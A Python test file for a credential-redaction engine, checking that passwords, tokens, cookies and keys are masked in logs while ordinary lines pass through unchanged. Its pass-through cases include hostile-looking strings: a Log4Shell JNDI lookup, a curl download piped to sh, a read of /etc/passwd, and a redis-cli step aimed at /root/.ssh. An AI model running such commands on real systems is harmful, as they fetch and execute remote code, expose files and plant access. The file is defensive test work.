"""Credentials do not leave the host; ordinary text does."""

from __future__ import annotations

import time

import pytest

from engine.redaction import PATTERNS, redact
from engine.text import escape

SECRET = "hunter2hunter2hunter2"

CASES = {
    "basic login": f"Authorization: Basic {SECRET}",
    "digest login": f'Proxy-Authorization: Digest username="a", response="{SECRET}"',
    "cookie": f"Cookie: a=1; sid={SECRET}",
    "set-cookie": f"Set-Cookie: sid={SECRET}; Path=/",
    "key header": f"X-Api-Key: {SECRET}",
    "bearer": f"sent bearer {SECRET}",
    "form": f"user=bob&password={SECRET}&go=1",
    "query": f"/login?access_token={SECRET}&x=1",
    "json": f'{{"user":"bob","password":"{SECRET}"}}',
    "json in json": f'{{\\"passwd\\":\\"{SECRET}\\"}}',
    "json cookie": f'{{"cookie": "{SECRET}"}}',
    "url": f"postgres://bob:{SECRET}@db/x",
    "flag": f"mysql --password={SECRET} -h db",
    "mysqldump": f"0 3 * * * root mysqldump -u root -p{SECRET} --all-databases > /srv/dump.sql",
    "mysql in quotes": f"mysql -h db -p'{SECRET} {SECRET}' shop",
    "mysql in a list": f'["mysql","-u","root","-p{SECRET}"]',
    "mariadb": f"mariadb-dump -p{SECRET} shop",
    "sshpass": f"sshpass -p {SECRET} ssh root@203.0.113.9",
    "sshpass together": f"sshpass -v -p{SECRET} scp a b:",
    "curl": f"curl -s -u bob:{SECRET} https://shop.example/",
    "curl after an address": f"curl https://shop.example/?a=1&b=2 --user 'bob:{SECRET}'",
    "curl together": f"curl -ubob:{SECRET} https://shop.example/",
    "redis": f"redis-cli -h 127.0.0.1 -a {SECRET} ping",
    "postgres": f"PGPASSWORD={SECRET} psql -h db",
    "mysql by its environment": f"MYSQL_PWD={SECRET} mysql shop",
    "wget": f"wget --user=bob --http-password={SECRET} https://shop.example/",
    "flag apart": f"tool --token {SECRET}",
    "flag in a list": f'["tool","--token","{SECRET}"]',
    "ftp": f"USER bob\r\nPASS {SECRET}\r\n",
    "smtp": f"AUTH PLAIN {SECRET}\r\n",
    "jwt": f"got eyJhbGciOiJI.eyJzdWIiOiIx.{SECRET}",
    "private key": f"-----BEGIN RSA PRIVATE KEY-----\n{SECRET}\n-----END RSA PRIVATE KEY-----",
    "github": f"ghp_{SECRET}",
    "openai": f"sk-{SECRET}",
    "environment": f"DB_PASSWORD={SECRET} PATH=/bin",
    "session": f"PHPSESSID={SECRET}; x",
}


@pytest.mark.parametrize("text", CASES.values(), ids=CASES.keys())
@pytest.mark.parametrize("form", [str, escape], ids=["raw", "escaped"])
def test_a_secret_is_taken_out(text: str, form: type[str]) -> None:
    assert SECRET not in redact(form(text))
    assert "[redacted:" in redact(form(text))


@pytest.mark.parametrize(
    "text",
    [
        "GET /index.html HTTP/1.1\\r\\nHost: shop.example\\r\\nUser-Agent: curl/8",
        "${jndi:ldap://203.0.113.9:1389/a}",
        "SSH-2.0-OpenSSH_9.6",
        "T1110 Brute Force: adversaries may guess passwords to attempt access.",
        "cat /etc/passwd; id",
        "GET /pass/through HTTP/1.1",
        "mysql -u root -P 3306 -p shop",
        "mkdir -p /srv/a && ssh -p 2222 host && ls -a /tmp",
        "mysql shop < a.sql; mkdir -pv /srv/a",
        "curl -s -o /tmp/.x http://203.0.113.66/x | sh",
        "curl -u bob https://shop.example/",
        "redis-cli -h 127.0.0.1 config set dir /root/.ssh",
    ],
)
def test_ordinary_text_is_untouched(text: str) -> None:
    assert redact(text) == text


def test_only_the_secret_line_goes() -> None:
    shown = redact(escape(f"GET / HTTP/1.1\r\nCookie: a={SECRET}\r\nHost: x\r\n"))
    assert shown == "GET / HTTP/1.1\\r\\nCookie: [redacted:cookie]\\r\\nHost: x\\r\\n"


@pytest.mark.parametrize(
    "unit",
    [
        "password",
        "session-token",
        "Cookie:",
        "://a:",
        "-----BEGIN ",
        "x-key",
        "eyJ",
        "AUTH ",
        "mysql ",
        "mysql -",
        "curl -u ",
        "sshpass -p",
        "redis-cli -",
        "sshpass -v ",
    ],
)
def test_no_pattern_is_slow_on_repeated_text(unit: str) -> None:
    text = unit * (20_000 // len(unit))
    for name, pattern in PATTERNS.items():
        started = time.perf_counter()
        pattern.sub("", text)
        assert time.perf_counter() - started < 2.0, name
